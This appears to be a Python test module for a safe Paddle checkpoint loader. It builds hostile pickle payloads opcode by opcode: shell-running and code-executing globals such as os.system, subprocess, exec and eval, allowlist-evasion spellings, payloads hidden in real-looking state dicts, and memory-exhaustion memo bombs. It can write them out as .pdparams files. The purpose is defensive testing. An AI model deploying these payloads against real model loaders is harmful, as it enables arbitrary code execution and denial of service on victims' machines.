# SPDX-License-Identifier: Apache-2.0
"""A corpus of hostile pickles, assembled opcode by opcode (nothing here imports or calls what
the pickles name).  `corpus(cmd)` returns Case(name, data, expect) items: the bytes, and a piece
of the error pdckpt must give.  `cmd` is a shell command the shell-running payloads carry (the
tests use `touch <marker>` to prove that Python's own pickle really runs them).

Covered (issue 16): every spelling that got past the old denylist -- dotted STACK_GLOBAL names,
the C twins _operator/_functools, Python 2 names that CPython renames (StringIO.open -> io.open,
commands, __builtin__ ...), callables simply not on a list (pydoc.pipepager, _ctypes.dlopen,
numpy.ctypeslib.load_library, logging.config.dictConfig, numpy.save, paddle.framework.io.load ...)
-- each through GLOBAL, STACK_GLOBAL, INST, OBJ, REDUCE, NEWOBJ, NEWOBJ_EX and BUILD with
__setstate__, at protocols 0-5, alone, nested inside real-looking state dicts, behind memo
indices, inside allowed calls (copyreg._reconstructor, defaultdict, numpy.dtype); globals on the
allowlist used outside their one structure (eval); and memo bombs that expand shared arrays,
strings and lists.

Run as a script to write the corpus into a directory: python hostile_pickles.py DIR
"""
import os
import struct
import sys
from collections import namedtuple

Case = namedtuple("Case", "name data expect")

NOT_ALLOWED = "not on pdckpt's allowlist"
BOMB = "max_alloc_bytes"  # the expanded size, or the memory that expanding it would take


# ---- opcodes ----

def proto(p):
    return b"\x80" + bytes([p])


def text(s):
    b = s.encode("utf-8", "surrogatepass")
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def utext(s):  # BINUNICODE (protocols 1-3)
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def gtext(m, n):  # GLOBAL
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def sglobal(m, n):  # STACK_GLOBAL
    return text(m) + text(n) + b"\x93"


def pystr(s):  # protocol 0 STRING
    return b"S" + repr(s).encode() + b"\n"


def tuple_of(*items):
    if len(items) <= 3:
        return b"".join(items) + (b")", b"\x85", b"\x86", b"\x87")[len(items)]
    return b"(" + b"".join(items) + b"t"


# ---- a real-looking Paddle state dict (numpy's pickling of a float32 array) ----

def ndarray_p2(shape=(2, 2)):
    n = 4 * int(__import__("math").prod(shape))
    data = b"\x00\x00\x80?" * (n // 4)
    latin = data.decode("latin-1")
    return (gtext("numpy.core.multiarray", "_reconstruct") + gtext("numpy", "ndarray")
            + b"K\x00\x85" + gtext("_codecs", "encode") + utext("b") + utext("latin1") + b"\x86R"
            + b"\x87R(K\x01(" + b"".join(b"K" + bytes([d]) for d in shape) + b"t"
            + gtext("numpy", "dtype") + utext("f4") + b"\x89\x88\x87R"
            + b"(K\x03" + utext("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
            + b"\x89" + gtext("_codecs", "encode") + utext(latin) + utext("latin1") + b"\x86R"
            + b"tb")


def ndarray_p4(nbytes=16, module="numpy._core.multiarray"):
    data = b"\x00" * nbytes
    body = b"C" + bytes([nbytes]) + data if nbytes < 256 else b"B" + struct.pack("<I", nbytes) + data
    return (sglobal(module, "_reconstruct") + sglobal("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R"
            + b"(K\x01J" + struct.pack("<i", nbytes) + b"\x85" + sglobal("numpy", "dtype")
            + text("u1") + b"\x89\x88\x87R(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xff"
            + b"J\xff\xff\xff\xffK\x00tb\x89" + body + b"tb")


def state_dict(p, payload):
    """{'linear_0.w_0': array, 'linear_0.b_0': array, 'epoch': <payload>} at protocol p."""
    arr = ndarray_p4 if p >= 4 else ndarray_p2
    key = text if p >= 4 else utext
    return (proto(p) + b"}(" + key("linear_0.w_0") + arr() + key("linear_0.b_0") + arr()
            + key("epoch") + payload + b"u.")


def lr_dict(p, payload):
    """An optimizer state: {'LR_Scheduler': {'last_epoch': 3, 'last_lr': <payload>}, 'w': array}."""
    key = text if p >= 4 else utext
    arr = ndarray_p4 if p >= 4 else ndarray_p2
    return (proto(p) + b"}(" + key("linear_0.w_0_moment1_0") + arr() + key("LR_Scheduler") + b"}("
            + key("last_epoch") + b"K\x03" + key("last_lr") + payload + b"uu.")


# ---- the callables ----

SHELL = "shell"  # the payload takes the command line
CODE = "code"    # the payload takes Python source
PATH = "path"    # the payload takes a file name (truncated or opened)
ARG = "arg"      # some string argument

TARGETS = [
    ("posix", "system", SHELL), ("os", "system", SHELL), ("nt", "system", SHELL),
    ("os", "popen", SHELL), ("subprocess", "getoutput", SHELL), ("subprocess", "getstatusoutput", SHELL),
    ("subprocess", "Popen", SHELL), ("subprocess", "call", SHELL), ("subprocess", "check_output", SHELL),
    ("subprocess", "run", SHELL), ("pty", "spawn", SHELL), ("platform", "popen", SHELL),
    ("_posixsubprocess", "fork_exec", SHELL), ("os", "execvp", SHELL), ("posix", "execv", SHELL),
    ("pydoc", "pipepager", SHELL), ("pydoc", "tempfilepager", SHELL),
    ("builtins", "exec", CODE), ("builtins", "compile", CODE), ("builtins", "__import__", ARG),
    ("builtins", "getattr", ARG), ("builtins", "setattr", ARG), ("builtins", "open", PATH),
    ("builtins", "breakpoint", ARG), ("builtins", "input", ARG), ("builtins", "globals", ARG),
    ("builtins", "vars", ARG), ("builtins", "print", ARG), ("builtins", "type", ARG),
    ("_operator", "attrgetter", ARG), ("_operator", "methodcaller", ARG), ("_operator", "itemgetter", ARG),
    ("operator", "attrgetter", ARG), ("operator", "methodcaller", ARG),
    ("_functools", "partial", ARG), ("_functools", "reduce", ARG), ("functools", "partial", ARG),
    ("_ctypes", "dlopen", PATH), ("ctypes", "CDLL", PATH), ("ctypes.util", "find_library", ARG),
    ("numpy.ctypeslib", "load_library", PATH), ("logging.config", "dictConfig", ARG),
    ("logging.config", "fileConfig", PATH), ("logging.config", "listen", ARG),
    ("numpy", "save", PATH), ("numpy", "load", PATH), ("numpy", "fromfile", PATH),
    ("numpy", "loadtxt", PATH), ("numpy", "memmap", PATH), ("numpy.lib.npyio", "load", PATH),
    ("numpy.testing._private.utils", "runstring", CODE), ("numpy.f2py", "compile", CODE),
    ("paddle.framework.io", "load", PATH), ("paddle", "load", PATH), ("paddle", "save", PATH),
    ("paddle.utils.cpp_extension", "load", ARG), ("paddle.jit", "load", PATH),
    ("torch", "load", PATH), ("pickle", "loads", ARG), ("_pickle", "loads", ARG),
    ("marshal", "loads", ARG), ("dill", "loads", ARG), ("joblib", "load", PATH),
    ("types", "FunctionType", ARG), ("types", "CodeType", ARG), ("importlib", "import_module", ARG),
    ("runpy", "run_path", PATH), ("runpy", "run_module", ARG), ("code", "InteractiveInterpreter", ARG),
    ("timeit", "timeit", CODE), ("cProfile", "run", CODE), ("profile", "run", CODE), ("pdb", "run", CODE),
    ("webbrowser", "open", ARG), ("shutil", "rmtree", PATH), ("os", "remove", PATH),
    ("posix", "unlink", PATH), ("io", "open", PATH), ("_io", "open", PATH), ("codecs", "open", PATH),
    ("tempfile", "mktemp", ARG), ("socket", "create_connection", ARG), ("urllib.request", "urlopen", ARG),
    ("multiprocessing", "Process", ARG), ("threading", "Thread", ARG), ("sys", "exit", ARG),
    ("site", "addsitedir", PATH), ("zipimport", "zipimporter", PATH), ("linecache", "getline", PATH),
    ("collections", "namedtuple", ARG), ("copyreg", "__newobj__", ARG),
    ("numpy.core.multiarray", "fromfile", PATH), ("numpy._core.multiarray", "frombuffer", ARG),
    ("numpy.lib.format", "read_array", PATH), ("paddle.base.libpaddle", "load_func", PATH),
    ("paddle.framework.io_utils", "_pickle_loads_mac", PATH),
]


def arg_for(kind, cmd, marker):
    return {SHELL: cmd, CODE: f"import os; os.system({cmd!r})", PATH: marker, ARG: "x"}[kind]


# One structure per way a call can be spelled; each takes (module, name, argument text).
def s_reduce_p0(m, n, a):
    return gtext(m, n) + b"(" + pystr(a) + b"tR."


def s_reduce_p2(m, n, a):
    return proto(2) + gtext(m, n) + utext(a) + b"\x85R."


def s_reduce_p3(m, n, a):
    return proto(3) + gtext(m, n) + b"q\x00" + utext(a) + b"\x85q\x01R."


def s_stack_p4(m, n, a):
    return proto(4) + sglobal(m, n) + b"\x94" + text(a) + b"\x85\x94R\x94."


def s_stack_p5(m, n, a):
    return proto(5) + sglobal(m, n) + text(a) + b"\x85R."


def s_inst_p0(m, n, a):
    return b"(" + pystr(a) + b"i" + m.encode() + b"\n" + n.encode() + b"\n."


def s_obj_p1(m, n, a):
    return b"(" + gtext(m, n) + utext(a) + b"o."


def s_newobj_build(m, n, a):  # cls.__new__ then BUILD: __setstate__ would run
    return proto(2) + gtext(m, n) + b")\x81}" + utext("__setstate__") + utext(a) + b"sb."


def s_newobj_ex(m, n, a):
    return proto(4) + sglobal(m, n) + text(a) + b"\x85}\x92."


def s_in_state_dict_p2(m, n, a):
    return state_dict(2, gtext(m, n) + utext(a) + b"\x85R")


def s_in_state_dict_p4(m, n, a):
    return state_dict(4, sglobal(m, n) + text(a) + b"\x85R")


def s_in_lr_scheduler(m, n, a):
    return lr_dict(4, sglobal(m, n) + text(a) + b"\x85R")


def s_memo_trick(m, n, a):  # named early, stored, popped; fetched and called much later
    return (proto(2) + gtext(m, n) + b"q\x070}(" + utext("linear_0.w_0") + ndarray_p2()
            + utext("epoch") + b"h\x07" + utext(a) + b"\x85Ru.")


def s_reconstructor(m, n, a):  # copyreg._reconstructor(cls, object, state) runs base.__init__
    return (proto(2) + gtext("copy_reg", "_reconstructor") + gtext(m, n) + gtext("__builtin__", "object")
            + utext(a) + b"\x87R.")


def s_defaultdict(m, n, a):  # an allowed call whose argument is the target
    return proto(4) + sglobal("collections", "defaultdict") + sglobal(m, n) + b"\x85R."


def s_dtype_arg(m, n, a):
    return proto(2) + gtext("numpy", "dtype") + gtext(m, n) + b"\x89\x88\x87R."


def s_tuple_reducer(m, n, a):  # Paddle's tensor reducer tuple((name, <payload>),)
    return (proto(2) + gtext("__builtin__", "tuple") + utext("w") + gtext(m, n) + utext(a)
            + b"\x85R\x86\x85R.")


STRUCTURES = [s_reduce_p0, s_reduce_p2, s_reduce_p3, s_stack_p4, s_stack_p5, s_inst_p0, s_obj_p1,
              s_newobj_build, s_newobj_ex, s_in_state_dict_p2, s_in_state_dict_p4,
              s_in_lr_scheduler, s_memo_trick, s_reconstructor, s_defaultdict, s_dtype_arg,
              s_tuple_reducer]


def target_cases(cmd, marker):
    out = []
    for i, (m, n, kind) in enumerate(TARGETS):
        a = arg_for(kind, cmd, marker)
        # every target through the two common spellings, and three more structures in turn
        picks = {1, 3} | {(i + k * 5) % len(STRUCTURES) for k in range(3)}
        for j in sorted(picks):
            s = STRUCTURES[j]
            out.append(Case(f"{m}.{n}-{s.__name__[2:]}", s(m, n, a), f"refusing global {m}.{n}"))
    return out


# ---- dotted names: protocol 4 resolves attribute paths ----

DOTTED = [("codecs", "builtins.exec"), ("logging", "os.system"), ("pickle", "sys.modules"),
          ("numpy", "ctypeslib.load_library"), ("collections", "OrderedDict.fromkeys"),
          ("numpy", "dtype.__new__"), ("os", "path.join"), ("subprocess", "os.system"),
          ("numpy.core.multiarray", "_reconstruct.__globals__"), ("copyreg", "sys.modules"),
          ("builtins", "getattr.__call__"), ("paddle", "framework.io.load"),
          ("_codecs", "encode.__self__"), ("numpy", "core.multiarray._reconstruct")]


def dotted_cases(cmd):
    out = []
    for m, n in DOTTED:
        code = f"import os; os.system({cmd!r})"
        out.append(Case(f"dotted-{m}.{n}", proto(4) + sglobal(m, n) + text(code) + b"\x85R.",
                        f"refusing global {m}.{n}: a dotted name"))
        out.append(Case(f"dotted-in-dict-{m}.{n}",
                        state_dict(4, sglobal(m, n) + text(code) + b"\x85R"),
                        f"refusing global {m}.{n}: a dotted name"))
    return out


# ---- Python 2 names: CPython renames them below protocol 3 ----

PY2 = [("StringIO", "open", PATH), ("cStringIO", "open", PATH), ("commands", "getoutput", SHELL),
       ("commands", "Popen", SHELL), ("__builtin__", "execfile", PATH), ("__builtin__", "file", PATH),
       ("__builtin__", "open", PATH), ("__builtin__", "getattr", ARG), ("__builtin__", "apply", ARG),
       ("__builtin__", "input", ARG), ("__builtin__", "reload", ARG), ("__builtin__", "__import__", ARG),
       ("__builtin__", "exec", CODE), ("__builtin__", "compile", CODE), ("__builtin__", "intern", ARG),
       ("__builtin__", "reduce", ARG), ("urllib2", "urlopen", ARG), ("thread", "start_new_thread", ARG),
       ("cPickle", "loads", ARG), ("anydbm", "open", PATH), ("dbm", "open", PATH),
       ("httplib", "HTTPConnection", ARG), ("SocketServer", "TCPServer", ARG), ("copy_reg", "__newobj__", ARG),
       ("exceptions", "SystemExit", ARG), ("itertools", "imap", ARG), ("UserDict", "UserDict", ARG),
       ("Tkinter", "Tk", ARG), ("popen2", "popen2", SHELL), ("os", "spawnlp", SHELL)]


def py2_cases(cmd, marker):
    out = []
    for m, n, kind in PY2:
        a = arg_for(kind, cmd, marker)
        for s in (s_reduce_p0, s_reduce_p2, s_inst_p0):
            out.append(Case(f"py2-{m}.{n}-{s.__name__[2:]}", s(m, n, a), f"refusing global {m}.{n}"))
        # above protocol 2 there is no renaming: __builtin__ is no module at all
    out.append(Case("py2-builtin-set-p4", proto(4) + sglobal("__builtin__", "set") + b"]\x85R.",
                    "refusing global __builtin__.set"))
    return out


# ---- names on the allowlist used outside the one structure they have in real files ----

def role_cases(cmd):
    code = f"__import__('os').system({cmd!r})"
    arr = ndarray_p2()
    return [
        Case("eval-call-p2", proto(2) + gtext("__builtin__", "eval") + utext(code) + b"\x85R.",
             "refusing to call builtins.eval"),
        Case("eval-call-p4", proto(4) + sglobal("builtins", "eval") + text(code) + b"\x85R.",
             "refusing to call builtins.eval"),
        Case("eval-data-with-extra-key",
             proto(2) + gtext("__builtin__", "eval") + utext("data") + b"}(" + utext("data") + arr
             + utext("__builtins__") + utext(code) + b"u\x86R.", "refusing to call builtins.eval"),
        Case("eval-other-text", proto(2) + gtext("__builtin__", "eval") + utext(code) + b"}("
             + utext("data") + arr + b"u\x86R.", "refusing to call builtins.eval"),
        Case("eval-as-value", proto(2) + b"}" + utext("f") + gtext("__builtin__", "eval") + b"s.",
             "refusing builtins.eval as a value"),
        Case("eval-as-root", proto(4) + sglobal("builtins", "eval") + b".",
             "refusing builtins.eval as a value"),
        Case("eval-via-memo", proto(2) + gtext("__builtin__", "eval") + b"q\x010]h\x01a.",
             "refusing builtins.eval as a value"),
        Case("eval-as-defaultdict-factory",
             proto(4) + sglobal("collections", "defaultdict") + sglobal("builtins", "eval") + b"\x85R.",
             "refusing builtins.eval as a value"),
        Case("eval-newobj", proto(4) + sglobal("builtins", "eval") + b")\x81.",
             "refusing to call builtins.eval"),
        Case("eval-inst", b"(" + pystr(code) + b"i__builtin__\neval\n.", "refusing to call builtins.eval"),
        Case("dense-form-as-call", proto(4) + sglobal("paddle.framework.io_utils",
                                                      "_reconstruct_dense_tensor_data")
             + text(code) + b"\x85R.", "refusing to call paddle.framework.io_utils"),
        Case("class-called-generator-state", proto(2) + gtext("paddle.base.libpaddle", "GeneratorState")
             + utext(code) + b"\x85R.", "refusing to call paddle.base.libpaddle.GeneratorState"),
        Case("class-called-lr-decay", b"(" + pystr("x") + b"ipaddle.fluid.dygraph.learning_rate_scheduler"
             b"\nNaturalExpDecay\n.", "refusing to call paddle.fluid.dygraph"),
        Case("class-called-metadata", proto(4) + sglobal("paddle.distributed.flex_checkpoint.dcp.metadata",
                                                         "Metadata") + b")R.",
             "refusing to call paddle.distributed.flex_checkpoint.dcp.metadata.Metadata"),
        Case("ndarray-called", proto(2) + gtext("numpy", "ndarray") + b"(K\x05t\x85R.",
             "refusing to call numpy.ndarray"),
        Case("object-called", proto(2) + gtext("__builtin__", "object") + b")R.",
             "refusing to call builtins.object"),
        Case("builtin-p3-spelling", proto(3) + gtext("__builtin__", "set") + b"]\x85R.",
             "refusing global __builtin__.set"),
    ]


# ---- memo bombs ----

def bomb_cases():
    mib = 1 << 20
    arr = ndarray_p4(mib)  # a 1 MiB array
    # list [a, a, a, ...]: the list is memo 0, the array memo 1, then 7999 BINGETs of it
    shared_array = proto(4) + b"]\x94(" + arr + b"\x94" + b"h\x01" * 7999 + b"e."
    text_mib = "x" * mib
    shared_text = proto(4) + b"]\x94(" + text(text_mib) + b"\x94" + b"h\x01" * 7999 + b"e."
    shared_bytes = (proto(3) + b"]q\x00(B" + struct.pack("<I", mib) + b"\0" * mib + b"q\x01"
                    + b"h\x01" * 7999 + b"e.")
    # a 64 KiB array in a list of 1000 references, that list referenced 1000 times: 64 GB
    inner = proto(4) + b"]\x94(" + ndarray_p4(1 << 16) + b"\x94" + b"h\x01" * 999 + b"e\x94"
    nested = inner + b"]\x94(" + b"h\x02" * 1000 + b"e."
    # tied entries of a state dict: one array under 8000 keys
    tied = proto(4) + b"}\x94(" + text("w0") + arr + b"\x94" + b"".join(
        text(f"w{i}") + b"h\x01" for i in range(1, 8000)) + b"u."
    # values: [l0, l0] doubled 64 times
    doubling = bytearray(b"\x80\x02K\x01q\x00")
    for level in range(1, 64):
        doubling += b"](h" + bytes([level - 1]) + b"h" + bytes([level - 1]) + b"eq" + bytes([level])
    return [Case("memo-bomb-shared-array", shared_array, BOMB),
            Case("memo-bomb-shared-str", shared_text, BOMB),
            Case("memo-bomb-shared-bytes", shared_bytes, BOMB),
            Case("memo-bomb-nested-lists", nested, BOMB),
            Case("memo-bomb-tied-state-dict", tied, BOMB),
            Case("memo-bomb-doubling", bytes(doubling) + b".", BOMB)]


def corpus(cmd="true", marker="pwned"):
    return (target_cases(cmd, marker) + dotted_cases(cmd) + py2_cases(cmd, marker)
            + role_cases(cmd) + bomb_cases())


if __name__ == "__main__":
    outdir = sys.argv[1]
    os.makedirs(outdir, exist_ok=True)
    cases = corpus()
    for c in cases:
        with open(os.path.join(outdir, c.name + ".pdparams"), "wb") as f:
            f.write(c.data)
    print(f"{len(cases)} hostile pickles in {outdir}")
